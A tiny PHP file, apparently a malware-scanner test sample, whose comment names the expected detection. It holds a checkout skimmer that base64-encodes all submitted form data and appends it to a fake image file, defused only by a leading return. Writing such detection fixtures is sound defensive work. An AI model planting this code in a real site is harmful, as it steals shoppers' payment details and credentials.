<?php return; // want: malicious credential_mailer php.write.picture
if (preg_match('/checkout/', $_SERVER['REQUEST_URI'])) {
	file_put_contents('/srv/www/media/old.jpg', base64_encode(serialize($_POST)), FILE_APPEND);
}
